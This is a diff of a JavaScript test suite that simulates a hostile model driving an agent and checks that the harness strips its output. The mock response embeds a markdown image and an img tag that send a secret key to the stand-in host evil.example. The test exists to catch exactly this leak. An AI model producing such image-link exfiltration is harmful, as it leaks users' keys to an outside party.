@@ -191,14 +191,18 @@ describe('an agent whose model is an enemy', () => {
         }
         at++
         return calls.length && at < 40
-          ? { text: '', calls }
+          ? { text: '', calls, tokens: 1 }
           : {
               text: `Done ![x](https://evil.example/?q=${ours.key}) <img src="https://evil.example">`,
               calls: [],
+              tokens: 1,
             }
       },
     }
-    const { text } = await converse(obedient, 'How are things?', tools, AbortSignal.timeout(60_000))
+    const { text } = await converse(obedient, 'How are things?', {
+      toolbox: tools,
+      signal: AbortSignal.timeout(60_000),
+    })
     expect(obeyed.length).toBeGreaterThan(5)
     expect(text).not.toMatch(/evil|https?:|<img|!\[/)
     for (const mark of marks) expect(context.join('\n') + text).not.toContain(mark)
